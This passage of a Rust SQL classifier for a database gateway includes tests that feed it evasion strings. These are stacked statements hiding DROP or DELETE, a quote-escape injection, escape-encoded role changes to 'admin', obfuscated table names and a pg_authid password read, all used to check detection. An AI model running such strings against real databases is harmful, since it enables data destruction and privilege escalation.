    if !v.list("from_clause").iter().all(plain_relations) {
        return None;
    }
    let mut columns = Vec::new();
    for target in v.list("target_list") {
        let mut column = ViewColumn::default();
        if let Some(val) = target.get("val") {
            mentioned_columns(val, relations, &mut column.mentions);
            column.bare = val.name() == "ColumnRef" && !column.mentions.iter().any(|m| m == "*");
        }
        columns.push(column);
    }
    Some(columns)
}

/// Whether a FROM item reads only tables and views, joined (no subquery, function or alias
/// that renames columns).
fn plain_relations(v: &V) -> bool {
    match v.name() {
        "RangeVar" => v.get("alias").is_none_or(|a| a.get("colnames").is_none()),
        "JoinExpr" => {
            v.get("alias").is_none()
                && v.get("larg").is_some_and(plain_relations)
                && v.get("rarg").is_some_and(plain_relations)
        }
        _ => false,
    }
}

/// Every name a relation, subquery, function or CTE goes by, anywhere in `v`.
fn row_names(v: &V, out: &mut Vec<String>) {
    match v {
        V::Obj(name, fields) => {
            match *name {
                "RangeVar" => out.push(v.str("relname").to_string()),
                "Alias" => out.push(v.str("aliasname").to_string()),
                "CommonTableExpr" => out.push(v.str("ctename").to_string()),
                _ => {}
            }
            for (_, f) in fields {
                row_names(f, out);
            }
        }
        V::List(items) => {
            for i in items {
                row_names(i, out);
            }
        }
        _ => {}
    }
}

/// Every column an expression mentions, by name; `*` for whole rows.
fn mentioned_columns(v: &V, relations: &[String], out: &mut Vec<String>) {
    match v {
        V::Obj("ColumnRef", _) => {
            let fields = v.list("fields");
            if fields.iter().any(|f| f.name() == "AStar") {
                out.push("*".into());
            }
            if let Some(last) = fields.last().and_then(V::sval) {
                // A lone name that is a relation's is that relation's whole row.
                if fields.len() == 1 && relations.iter().any(|r| r == last) {
                    out.push("*".into());
                }
                out.push(last.to_string());
            }
        }
        V::Obj(_, fields) => {
            for (_, f) in fields {
                mentioned_columns(f, relations, out);
            }
        }
        V::List(items) => {
            for i in items {
                mentioned_columns(i, relations, out);
            }
        }
        _ => {}
    }
}

mod tree {
    //! pg_query's parse tree, serialized into named nodes so the walk can visit every field of
    //! every node without knowing each node type. Default values (false, 0, "", empty lists,
    //! absent nodes) and locations are left out, as in the protobuf encoding.

    use serde::ser::{self, Serialize};

    #[derive(Debug, PartialEq)]
    pub(super) enum V {
        Null,
        Bool(bool),
        Int(i64),
        Str(String),
        List(Vec<V>),
        /// A node: its type name and its non-default fields, in declaration order.
        Obj(&'static str, Vec<(&'static str, V)>),
    }

    impl V {
        pub fn name(&self) -> &'static str {
            match self {
                V::Obj(n, _) => n,
                _ => "",
            }
        }

        pub fn get(&self, key: &str) -> Option<&V> {
            match self {
                V::Obj(_, fields) => fields.iter().find(|(k, _)| *k == key).map(|(_, v)| v),
                _ => None,
            }
        }

        pub fn str(&self, key: &str) -> &str {
            match self.get(key) {
                Some(V::Str(s)) => s,
                _ => "",
            }
        }

        pub fn int(&self, key: &str) -> i64 {
            match self.get(key) {
                Some(V::Int(i)) => *i,
                _ => 0,
            }
        }

        pub fn flag(&self, key: &str) -> bool {
            matches!(self.get(key), Some(V::Bool(true)))
        }

        pub fn list(&self, key: &str) -> &[V] {
            match self.get(key) {
                Some(V::List(l)) => l,
                Some(other) => std::slice::from_ref(other),
                None => &[],
            }
        }

        /// The value of a `String` node.
        pub fn sval(&self) -> Option<&str> {
            (self.name() == "String").then(|| self.str("sval"))
        }
    }

    #[derive(Debug)]
    pub(super) struct Error(String);

    impl std::fmt::Display for Error {
        fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
            f.write_str(&self.0)
        }
    }

    impl std::error::Error for Error {}

    impl ser::Error for Error {
        fn custom<T: std::fmt::Display>(msg: T) -> Self {
            Error(msg.to_string())
        }
    }

    pub(super) fn build<T: Serialize + ?Sized>(v: &T) -> Result<V, Error> {
        v.serialize(Ser)
    }

    struct Ser;

    type R = Result<V, Error>;

    impl ser::Serializer for Ser {
        type Ok = V;
        type Error = Error;
        type SerializeSeq = Seq;
        type SerializeTuple = Seq;
        type SerializeTupleStruct = Seq;
        type SerializeTupleVariant = Seq;
        type SerializeMap = ser::Impossible<V, Error>;
        type SerializeStruct = Struct;
        type SerializeStructVariant = Struct;

        fn serialize_bool(self, v: bool) -> R {
            Ok(V::Bool(v))
        }
        fn serialize_i8(self, v: i8) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_i16(self, v: i16) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_i32(self, v: i32) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_i64(self, v: i64) -> R {
            Ok(V::Int(v))
        }
        fn serialize_u8(self, v: u8) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_u16(self, v: u16) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_u32(self, v: u32) -> R {
            Ok(V::Int(v.into()))
        }
        fn serialize_u64(self, v: u64) -> R {
            Ok(V::Int(v as i64))
        }
        fn serialize_f32(self, _: f32) -> R {
            Ok(V::Null)
        }
        fn serialize_f64(self, _: f64) -> R {
            Ok(V::Null)
        }
        fn serialize_char(self, v: char) -> R {
            Ok(V::Str(v.to_string()))
        }
        fn serialize_str(self, v: &str) -> R {
            Ok(V::Str(v.to_owned()))
        }
        fn serialize_bytes(self, _: &[u8]) -> R {
            Ok(V::Null)
        }
        fn serialize_none(self) -> R {
            Ok(V::Null)
        }
        fn serialize_some<T: ?Sized + Serialize>(self, v: &T) -> R {
            v.serialize(self)
        }
        fn serialize_unit(self) -> R {
            Ok(V::Null)
        }
        fn serialize_unit_struct(self, _: &'static str) -> R {
            Ok(V::Null)
        }
        fn serialize_unit_variant(self, _: &'static str, _: u32, variant: &'static str) -> R {
            Ok(V::Str(variant.to_owned()))
        }
        fn serialize_newtype_struct<T: ?Sized + Serialize>(self, _: &'static str, v: &T) -> R {
            v.serialize(self)
        }
        // `Node` is a oneof: the variant wraps a node struct that carries its own name.
        fn serialize_newtype_variant<T: ?Sized + Serialize>(
            self,
            _: &'static str,
            _: u32,
            _: &'static str,
            v: &T,
        ) -> R {
            v.serialize(self)
        }
        fn serialize_seq(self, len: Option<usize>) -> Result<Seq, Error> {
            Ok(Seq(Vec::with_capacity(len.unwrap_or(0))))
        }
        fn serialize_tuple(self, len: usize) -> Result<Seq, Error> {
            Ok(Seq(Vec::with_capacity(len)))
        }
        fn serialize_tuple_struct(self, _: &'static str, len: usize) -> Result<Seq, Error> {
            Ok(Seq(Vec::with_capacity(len)))
        }
        fn serialize_tuple_variant(
            self,
            _: &'static str,
            _: u32,
            _: &'static str,
            len: usize,
        ) -> Result<Seq, Error> {
            Ok(Seq(Vec::with_capacity(len)))
        }
        fn serialize_map(self, _: Option<usize>) -> Result<Self::SerializeMap, Error> {
            Err(Error("maps are not part of parse trees".into()))
        }
        fn serialize_struct(self, name: &'static str, len: usize) -> Result<Struct, Error> {
            Ok(Struct {
                name,
                // Most fields hold defaults and are left out.
                fields: Vec::with_capacity(len.min(4)),
            })
        }
        fn serialize_struct_variant(
            self,
            _: &'static str,
            _: u32,
            variant: &'static str,
            len: usize,
        ) -> Result<Struct, Error> {
            Ok(Struct {
                name: variant,
                fields: Vec::with_capacity(len),
            })
        }
    }

    pub(super) struct Seq(Vec<V>);

    impl Seq {
        fn push<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
            self.0.push(v.serialize(Ser)?);
            Ok(())
        }
    }

    impl ser::SerializeSeq for Seq {
        type Ok = V;
        type Error = Error;
        fn serialize_element<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
            self.push(v)
        }
        fn end(self) -> R {
            Ok(V::List(self.0))
        }
    }

    impl ser::SerializeTuple for Seq {
        type Ok = V;
        type Error = Error;
        fn serialize_element<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
            self.push(v)
        }
        fn end(self) -> R {
            Ok(V::List(self.0))
        }
    }

    impl ser::SerializeTupleStruct for Seq {
        type Ok = V;
        type Error = Error;
        fn serialize_field<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
            self.push(v)
        }
        fn end(self) -> R {
            Ok(V::List(self.0))
        }
    }

    impl ser::SerializeTupleVariant for Seq {
        type Ok = V;
        type Error = Error;
        fn serialize_field<T: ?Sized + Serialize>(&mut self, v: &T) -> Result<(), Error> {
            self.push(v)
        }
        fn end(self) -> R {
            Ok(V::List(self.0))
        }
    }

    pub(super) struct Struct {
        name: &'static str,
        fields: Vec<(&'static str, V)>,
    }

    impl Struct {
        fn field<T: ?Sized + Serialize>(&mut self, key: &'static str, value: &T) -> Result<(), Error> {
            if key == "location" {
                return Ok(());
            }
            let v = value.serialize(Ser)?;
            let keep = match &v {
                V::Null | V::Bool(false) | V::Int(0) => false,
                V::Str(s) => !s.is_empty(),
                V::List(l) => !l.is_empty(),
                _ => true,
            };
            if keep {
                self.fields.push((key, v));
            }
            Ok(())
        }

        fn finish(mut self) -> R {
            // The `Node` wrapper is its one variant.
            if self.name == "Node" {
                return Ok(self.fields.pop().map_or(V::Null, |(_, v)| v));
            }
            Ok(V::Obj(self.name, self.fields))
        }
    }

    impl ser::SerializeStruct for Struct {
        type Ok = V;
        type Error = Error;
        fn serialize_field<T: ?Sized + Serialize>(
            &mut self,
            key: &'static str,
            value: &T,
        ) -> Result<(), Error> {
            self.field(key, value)
        }
        fn end(self) -> R {
            self.finish()
        }
    }

    impl ser::SerializeStructVariant for Struct {
        type Ok = V;
        type Error = Error;
        fn serialize_field<T: ?Sized + Serialize>(
            &mut self,
            key: &'static str,
            value: &T,
        ) -> Result<(), Error> {
            self.field(key, value)
        }
        fn end(self) -> R {
            self.finish()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use StatementKind as K;

    /// What a view's columns read, as `pg_get_viewdef` writes definitions: renames and
    /// expressions are traced to the names they mention; whole rows are `*`; what cannot be
    /// traced by name is `None`.
    #[test]
    fn view_columns_are_traced_to_the_names_they_read() {
        let names = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        let bare = |v: &[&str]| ViewColumn {
            mentions: names(v),
            bare: true,
        };
        let s = |v: &[&str]| ViewColumn {
            mentions: names(v),
            bare: false,
        };
        assert_eq!(
            view_column_sources(" SELECT customers.id,\n    customers.email AS e,\n    lower(customers.name) AS n\n   FROM customers;").unwrap(),
            vec![bare(&["id"]), bare(&["email"]), s(&["name"])]
        );
        // Swapped names: each column is what it reads, not what it is called.
        assert_eq!(
            view_column_sources("SELECT c.name AS email, c.email AS name FROM customers c").unwrap(),
            vec![bare(&["name"]), bare(&["email"])]
        );
        // Whole rows, at the top and in a subquery; a scalar subquery's inner names.
        assert_eq!(
            view_column_sources("SELECT row_to_json(c.*) AS j, c AS r, (SELECT x FROM orders o WHERE o.id = c.id) AS q, (SELECT o FROM orders o LIMIT 1) AS w FROM customers c").unwrap(),
            vec![s(&["*"]), s(&["*", "c"]), s(&["x", "id", "id"]), s(&["*", "o"])]
        );
        // Joins keep names; a set operation merges its sides.
        assert_eq!(
            view_column_sources("SELECT a.id, b.card_number FROM customers a JOIN orders b ON a.id = b.customer_id UNION ALL SELECT 1, email FROM customers").unwrap(),
            vec![s(&["id"]), bare(&["card_number", "email"])]
        );
        for opaque in [
            "SELECT x FROM (SELECT email AS x FROM customers) s",
            "WITH s AS (SELECT email AS x FROM customers) SELECT x FROM s",
            "SELECT x FROM customers AS c(i, n, x)",
            "SELECT x FROM generate_series(1, 3) x",
            "VALUES (1)",
            "SELECT 1; SELECT 2",
            "not sql",
        ] {
            assert_eq!(view_column_sources(opaque), None, "{opaque}");
        }
    }

    fn all(sql: &str) -> Vec<Statement> {
        classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}")).statements
    }

    fn one(sql: &str) -> Statement {
        let mut s = all(sql);
        assert_eq!(s.len(), 1, "{sql}: {s:#?}");
        s.remove(0)
    }

    fn kinds(sql: &str) -> Vec<K> {
        one(sql).kinds
    }

    fn strs(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    /// Text over the cap is refused before the parser sees it (its tree would cost some hundred
    /// times its size); text at the cap still classifies.
    #[test]
    fn statements_over_the_size_cap_are_refused_before_parsing() {
        let head = "SELECT 1 AS a";
        let pad = MAX_CLASSIFIED_SQL - head.len() - 5;
        let at_cap = format!("{head} /*{}*/", " ".repeat(pad));
        assert_eq!(at_cap.len(), MAX_CLASSIFIED_SQL);
        assert!(classify(&at_cap).is_ok());
        let over = format!("{at_cap} ");
        let err = classify(&over).unwrap_err();
        assert!(
            err.message
                .contains("more than the 1048576 the gateway classifies"),
            "{err}"
        );
    }

    #[test]
    fn dml_kinds_tables_and_columns() {
        let s = one("SELECT abalance FROM pgbench_accounts WHERE aid = 12345;");
        assert_eq!(s.kinds, vec![K::Select]);
        assert_eq!(s.kind(), K::Select);
        assert_eq!(s.text, "SELECT abalance FROM pgbench_accounts WHERE aid = 12345");
        assert_eq!(s.tables, strs(&["public.pgbench_accounts"]));
        assert_eq!(s.columns, strs(&["abalance", "aid"]));
        assert!(!s.writes && !s.without_where && s.functions.is_empty());
        assert_eq!(s.node, "SelectStmt");

        let s = one("INSERT INTO billing.invoices (order_id, amount) VALUES (1, 2) RETURNING id");
        assert_eq!((s.kinds.clone(), s.writes), (vec![K::Insert], true));
        assert_eq!(s.tables, strs(&["billing.invoices"]));
        assert_eq!(s.columns, strs(&["order_id", "amount", "id"]));

        let s = one("UPDATE orders SET status = 'x' WHERE id = 1");
        assert_eq!(
            (s.kinds.clone(), s.writes, s.without_where),
            (vec![K::Update], true, false)
        );
        assert_eq!(s.columns, strs(&["status", "id"]));

        let s = one("DELETE FROM orders USING customers c WHERE c.id = orders.customer_id");
        assert_eq!(s.kinds, vec![K::Delete]);
        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));

        let s = one("MERGE INTO orders o USING customers c ON o.customer_id = c.id \
             WHEN MATCHED THEN UPDATE SET status = 'merged' \
             WHEN NOT MATCHED THEN INSERT (customer_id) VALUES (c.id)");
        // MERGE is what its actions are: a Deny of Update or Delete sees them.
        assert_eq!(
            (s.kinds.clone(), s.writes, s.without_where),
            (vec![K::Merge, K::Update, K::Insert], true, false)
        );
        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));
        assert!(s.columns.contains(&"status".to_string()) && s.columns.contains(&"customer_id".to_string()));
        // An upsert updates too; from a query and without a WHERE, maybe every row.
        let s = one("INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1");
        assert_eq!(
            (s.kinds.clone(), s.without_where),
            (vec![K::Insert, K::Update], false)
        );
        let s = one("INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = 0");
        assert_eq!(
            (s.kinds.clone(), s.without_where),
            (vec![K::Insert, K::Update], true)
        );
        let s = one(
            "INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = 0 WHERE orders.id = 1",
        );
        assert!(!s.without_where);
        let s = one("INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING");
        assert_eq!(s.kinds, vec![K::Insert]);
        // Reading a portal by name through a function skips FETCH's checks.
        for sql in [
            "SELECT cursor_to_xml('', 100, false, false, '')",
            "SELECT pg_catalog.cursor_to_xmlschema('p', false, false, '')",
        ] {
            let e = classify(sql).unwrap_err();
            assert!(e.to_string().contains("use FETCH"), "{sql}: {e}");
        }
    }

    #[test]
    fn every_statement_of_a_text_is_seen() {
        let s = all("SELECT 1; /* x */ DROP TABLE t");
        assert_eq!(
            s.iter().map(|s| s.kinds.clone()).collect::<Vec<_>>(),
            vec![vec![K::Select], vec![K::Drop]]
        );
        assert_eq!(s[1].text, "/* x */ DROP TABLE t");
        assert_eq!(s[1].tables, strs(&["public.t"]));
        // A semicolon in a dollar quote is text; the one after it is not.
        let s = all("SELECT $$;$$; DELETE FROM t");
        assert_eq!(s.len(), 2);
        assert_eq!((s[0].text.as_str(), s[1].kind()), ("SELECT $$;$$", K::Delete));
        let s = all("SELECT $tag$ $$; $tag$; DELETE FROM t");
        assert_eq!(s.len(), 2);
        assert_eq!(s[1].kind(), K::Delete);
        // Comments nest: the DROP is inside the outer comment.
        let s = all("SELECT 1 /* a /* b */ ; DROP TABLE t */");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].kinds, vec![K::Select]);
        // ... and after a nested comment closes, code resumes.
        let s = all("SELECT 1 /* a /* b */ c */; DROP TABLE t");
        assert_eq!(s.len(), 2);
        let s = all("SELECT 1 -- ; DROP TABLE t\n; DELETE FROM u");
        assert_eq!(
            s.iter().map(Statement::kind).collect::<Vec<_>>(),
            vec![K::Select, K::Delete]
        );
        let s = all("SELECT 'a;b', \"c;d\" FROM x; DELETE FROM t");
        assert_eq!(s.len(), 2);
        assert_eq!(s[0].text, "SELECT 'a;b', \"c;d\" FROM x");
        // Nothing but separators, white space and comments: no statements.
        for empty in ["", " ", ";", ";;", "-- x", "/* x */ ;"] {
            assert!(all(empty).is_empty(), "{empty:?}");
        }
        // The whole text is refused when any part of it does not parse.
        assert!(classify("SELECT 1; DELET FROM t").is_err());
    }

    #[test]
    fn strings_are_read_as_postgresql_reads_them() {
        // With standard_conforming_strings on, a backslash does not escape in '...': the string
        // ends, and the DELETE is a statement (the -- hides the stray quote).
        let s = all(r"SELECT 'a\'; DELETE FROM t; --'");
        assert_eq!(
            s.iter().map(Statement::kind).collect::<Vec<_>>(),
            vec![K::Select, K::Delete]
        );
        // In E'...' it escapes: one string, one statement.
        let s = all(r"SELECT E'a\'; DELETE FROM t; --'");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].kinds, vec![K::Select]);
        // E'' escapes decode before classification: set_config(E'\x72ole') is set_config('role').
        assert_eq!(
            kinds(r"SELECT set_config(E'\x72ole', 'admin', false)"),
            vec![K::Select, K::SetRole]
        );
        assert_eq!(
            kinds(r"SELECT set_config(U&'\0072ole', 'admin', false)"),
            vec![K::Select, K::SetRole]
        );
    }

    #[test]
    fn identifiers_are_read_as_postgresql_reads_them() {
        // U&"..." identifiers decode.
        assert_eq!(
            one(r#"SELECT * FROM U&"\0073ecret""#).tables,
            strs(&["public.secret"])
        );
        assert_eq!(
            one(r#"SELECT * FROM U&"!0073ecret" UESCAPE '!'"#).tables,
            strs(&["public.secret"])
        );
        assert_eq!(
            one(r#"DELETE FROM U&"d\0061ta" WHERE true"#).tables,
            strs(&["public.data"])
        );
        // Quoted names keep their case; unquoted ones fold to lowercase.
        assert_eq!(
            one(r#"SELECT * FROM "Orders", ORDERS, Billing."Invoices""#).tables,
            strs(&["public.Orders", "public.orders", "billing.Invoices"])
        );
        // Quoted keywords are names.
        let s = one(r#"SELECT "select" FROM "from"."table""#);
        assert_eq!((s.tables, s.columns), (strs(&["from.table"]), strs(&["select"])));
        // Odd white space and case.
        let s = one("dElEtE\x0cFrOm\t\"orders\"\r\n\x0bWhErE\nid=1");
        assert_eq!((s.kinds, s.tables), (vec![K::Delete], strs(&["public.orders"])));
        let s = one("sElEcT\u{0009}*\nfRoM\r\nBiLlInG.InVoIcEs");
        assert_eq!(s.tables, strs(&["billing.invoices"]));
        // Catalog relations: pg_* names resolve to pg_catalog first.
        assert_eq!(
            one("SELECT rolpassword FROM pg_authid").tables,
            strs(&["pg_catalog.pg_authid"])
        );
        assert_eq!(
            one("SELECT * FROM information_schema.tables").tables,
            strs(&["information_schema.tables"])
        );
    }

    #[test]
    fn data_modifying_ctes_are_writes() {
        let s = one("WITH d AS (DELETE FROM billing.invoices RETURNING *) SELECT count(*) FROM d");
        assert_eq!(s.kinds, vec![K::Select, K::Delete]);
        assert!(s.writes && s.without_where);
        assert_eq!(s.tables, strs(&["billing.invoices"]));
        let s = one(
            "WITH u AS (UPDATE orders SET total = total * 2 WHERE id > 0 RETURNING customer_id) \
             SELECT * FROM customers WHERE id IN (SELECT customer_id FROM u)",
        );
        assert_eq!(s.kinds, vec![K::Select, K::Update]);
        assert!(s.writes && !s.without_where);
        assert_eq!(s.tables, strs(&["public.orders", "public.customers"]));
        let s = one(
            "WITH w AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) \
             INSERT INTO orders (customer_id) SELECT id FROM w",
        );
        assert_eq!(s.kinds, vec![K::Insert]);
        assert_eq!(s.tables, strs(&["public.customers", "public.orders"]));
        let s = one(
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), \
             i AS (MERGE INTO t USING r ON t.id = r.n WHEN MATCHED THEN DELETE) SELECT 1",
        );
        assert_eq!(s.kinds, vec![K::Select, K::Merge, K::Delete]);
        assert_eq!(s.tables, strs(&["public.t"]));
        // Nested below a subquery (PostgreSQL refuses it, the classifier still sees it).
        let s = one("SELECT * FROM (WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x) s");
        assert_eq!(s.kinds, vec![K::Select, K::Delete]);
        // A data-modifying CTE inside a data-modifying statement.
        let s = one("WITH a AS (UPDATE t SET x = 1 RETURNING 1) DELETE FROM u WHERE id IN (SELECT 1 FROM a)");
        assert_eq!(s.kinds, vec![K::Delete, K::Update]);
        assert!(s.without_where);
    }

    #[test]
    fn cte_names_are_not_tables_unless_out_of_scope() {
        assert!(
            one("WITH orders AS (SELECT 1) SELECT * FROM orders")
                .tables
                .is_empty()
        );
        assert_eq!(
            one("WITH o AS (SELECT * FROM orders) SELECT * FROM o JOIN customers c ON true").tables,
            strs(&["public.orders", "public.customers"])
        );
        // A CTE defined in one subquery does not hide a table of the same name elsewhere.
        assert_eq!(
            one("SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) a, secret").tables,
            strs(&["public.secret"])
        );
        // Without RECURSIVE a CTE does not see itself (nor later ones): that `t` is the table.
        assert_eq!(
            one("WITH t AS (SELECT * FROM t) SELECT * FROM t").tables,
            strs(&["public.t"])
        );
        assert_eq!(
            one("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b").tables,
            strs(&["public.b"])
        );
        assert!(
            one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r")
                .tables
                .is_empty()
        );
        // DML targets, COPY and LOCK name tables even when a CTE has the name.
        assert_eq!(
            one("WITH orders AS (SELECT 1) DELETE FROM orders").tables,
            strs(&["public.orders"])
        );
        assert_eq!(
            one("WITH orders AS (SELECT 1) INSERT INTO orders SELECT * FROM orders").tables,
            strs(&["public.orders"])
        );
        assert_eq!(
            one("WITH s AS (SELECT 1) UPDATE t SET a = 1 FROM s WHERE true").tables,
            strs(&["public.t"])
        );
        assert!(
            one("WITH s AS (SELECT 1) MERGE INTO t USING s ON true WHEN MATCHED THEN DO NOTHING")
                .tables
                .contains(&"public.t".to_string())
        );
        // A schema-qualified name is never a CTE.
        assert_eq!(
            one("WITH orders AS (SELECT 1) SELECT * FROM public.orders").tables,
            strs(&["public.orders"])
        );
    }

    #[test]
    fn nothing_nested_escapes() {
        let s = one("SELECT a.x, (SELECT max(y) FROM b WHERE b.id = a.id) FROM a \
             LEFT JOIN LATERAL (SELECT * FROM c WHERE c.a = a.id) l ON true \
             WHERE a.z IN (SELECT z FROM d) AND EXISTS (SELECT 1 FROM e) \
             AND lower(a.n) = ANY (SELECT n FROM f) \
             UNION SELECT x, y FROM g ORDER BY 1");
        let mut tables = s.tables.clone();
        tables.sort();
        assert_eq!(
            tables,
            strs(&[
                "public.a", "public.b", "public.c", "public.d", "public.e", "public.f", "public.g"
            ])
        );
        assert!(!s.writes, "{s:?}");
        // Function arguments, ON CONFLICT, RETURNING.
        let s = one("INSERT INTO t (a) SELECT coalesce((SELECT v FROM src), 0) \
             ON CONFLICT (a) DO UPDATE SET b = (SELECT w FROM other) WHERE t.c > 0 \
             RETURNING (SELECT secret FROM vault LIMIT 1)");
        assert_eq!(
            s.tables,
            strs(&["public.t", "public.src", "public.other", "public.vault"])
        );
        assert!(s.columns.contains(&"b".to_string()) && s.columns.contains(&"secret".to_string()));
        // DEFAULT expressions and generated columns in CREATE TABLE.
        let s = one(
            "CREATE TABLE x (id int DEFAULT nextval('s'), y text GENERATED ALWAYS AS (upper(z)) STORED, \
             z text CHECK (length(z) > 0))",
        );
        assert_eq!(s.kinds, vec![K::Create]);
        assert_eq!(s.functions, strs(&["nextval", "upper", "length"]));
        assert_eq!(s.tables, strs(&["public.x"]));
        // Functions in FROM, in ROWS FROM, in window and aggregate clauses.
        let s = one("SELECT sum(v) FILTER (WHERE f(v) > 0) OVER (PARTITION BY g(k)) \
             FROM ROWS FROM (h(1), i(2)) AS r(v, k)");
        assert_eq!(s.functions, strs(&["sum", "f", "g", "h", "i"]));
        assert!(s.writes);
        // Views are named like tables; VALUES and TABLE.
        assert_eq!(
            one("TABLE customer_contacts").tables,
            strs(&["public.customer_contacts"])
        );
        assert!(one("VALUES (1), (2)").tables.is_empty());
    }

    #[test]
    fn whole_rows_and_stars_are_columns() {
        let s = one("SELECT row_to_json(u) FROM users u");
        assert!(s.columns.contains(&"u".to_string()) && s.columns.contains(&"users".to_string()));
        let s = one("SELECT u FROM users AS u");
        assert!(s.columns.contains(&"users".to_string()));
        let s = one("SELECT to_jsonb(users) FROM users");
        assert!(s.columns.contains(&"users".to_string()));
        let s = one("SELECT (u).email, (u).* FROM users u");
        assert!(
            ["email", "*", "users"]
                .iter()
                .all(|c| s.columns.contains(&c.to_string()))
        );
        assert!(one("SELECT * FROM users").columns.contains(&"*".to_string()));
        assert!(one("SELECT u.* FROM users u").columns.contains(&"*".to_string()));
        // The whole row of a join, a subquery or a CTE is every column.
        let s = one("SELECT row_to_json(j) FROM (users JOIN accounts USING (id)) AS j");
        assert!(s.columns.contains(&"*".to_string()), "{:?}", s.columns);
        assert!(
            one("SELECT to_json(s) FROM (SELECT email FROM users) s")
                .columns
                .contains(&"*".to_string())
        );
        assert!(
            one("WITH c AS (SELECT email FROM users) SELECT c FROM c")
                .columns
                .contains(&"*".to_string())
        );
        // Column aliases of a relation or a join rename its columns by position: a star.
        for sql in [
            "SELECT upper(x) FROM users AS t(a, b, x)",
            "SELECT upper(j.x) FROM (users JOIN accounts USING (id)) AS j(a, x)",
        ] {
            assert!(one(sql).columns.contains(&"*".to_string()), "{sql}");
        }
        assert!(
            !one("SELECT upper(x) FROM users AS t")
                .columns
                .contains(&"*".to_string())
        );
        // A plain column is not a whole row.
        assert_eq!(one("SELECT email FROM users").columns, strs(&["email"]));
        assert!(one("SELECT count(*) FROM users").columns.is_empty());
    }

    #[test]
    fn what_may_keep_what_it_reads() {
        for sql in [
            "INSERT INTO orders (note) SELECT email FROM users",
            "UPDATE orders SET note = (SELECT email FROM users LIMIT 1) WHERE id = 1",
            "MERGE INTO orders o USING users u ON o.id = u.id WHEN MATCHED THEN UPDATE SET note = u.email",
            "WITH w AS (INSERT INTO orders (note) VALUES ('x') RETURNING id) SELECT * FROM w",
            "CREATE TABLE copy AS SELECT email FROM users",
            "CREATE MATERIALIZED VIEW m AS SELECT email FROM users",
            "SELECT email INTO copy FROM users",
            "SELECT set_config('my.x', email, false) FROM users",
            "SELECT public.keep(email) FROM users",
            "DO 'BEGIN END'",
            "CALL keep()",
            "PREPARE p AS INSERT INTO orders (note) SELECT email FROM users",
            "EXPLAIN ANALYZE INSERT INTO orders (note) SELECT email FROM users",
        ] {
            assert!(one(sql).stores, "{sql}");
        }
        for sql in [
            "SELECT email FROM users",
            "SELECT email FROM users FOR UPDATE",
            "DELETE FROM users WHERE email = 'x'",
            "CREATE VIEW v AS SELECT email FROM users",
            "EXPLAIN INSERT INTO orders (note) SELECT email FROM users",
            "COPY users TO STDOUT",
        ] {
            assert!(!one(sql).stores, "{sql}");
        }
        // Functions of the database's own may read anything; built-in read-only ones do not.
        assert!(one("SELECT public.f(1)").opaque_calls);
        assert!(one("SELECT f(id) FROM users").opaque_calls);
        assert!(one("PREPARE p AS SELECT f(1)").opaque_calls);
        assert!(!one("SELECT upper(email), count(*) FROM users GROUP BY 1").opaque_calls);
        // Columns only written are told apart from columns read.
        let s = one("UPDATE t SET a = 1, b = b + 1 WHERE c = 2");
        assert_eq!(s.assigned_only, strs(&["a"]));
        assert!(["a", "b", "c"].iter().all(|c| s.columns.contains(&c.to_string())));
        assert_eq!(
            one("INSERT INTO t (a, b) VALUES (1, 2)").assigned_only,
            strs(&["a", "b"])
        );
        assert!(one("INSERT INTO t (a) SELECT a FROM u").assigned_only.is_empty());
        assert_eq!(
            one("PREPARE p AS UPDATE t SET a = $1 WHERE id = $2").assigned_only,
            strs(&["a"])
        );
        assert_eq!(
            one("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 2").assigned_only,
            strs(&["a"])
        );
        // An upsert's EXCLUDED row is the one it inserts, named in the statement.
        let s = one("INSERT INTO t (id, a) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET a = EXCLUDED.a");
        assert_eq!(s.assigned_only, strs(&["id", "a"]));
        assert!(
            one("INSERT INTO t (a) SELECT a FROM u ON CONFLICT (id) DO UPDATE SET a = EXCLUDED.a")
                .assigned_only
                .is_empty()
        );
        // A relation called excluded is read like any other.
        let s = one("UPDATE t SET a = (SELECT excluded.email FROM users excluded LIMIT 1) WHERE id = 1");
        assert_eq!(s.assigned_only, strs(&["a"]));
    }

    #[test]
    fn what_reshapes_names_and_definitions() {
        for sql in [
            "ALTER TABLE customers RENAME COLUMN email TO e",
            "ALTER TABLE customers RENAME TO c2",
            "ALTER SCHEMA public RENAME TO p2",
            "ALTER TABLE x INHERIT customers",
            "ALTER TABLE customers SET SCHEMA other",
            "CREATE OR REPLACE VIEW v AS SELECT email FROM customers",
            "CREATE RULE r AS ON INSERT TO customers DO ALSO NOTIFY c",
            "CREATE TRIGGER t AFTER UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION f()",
        ] {
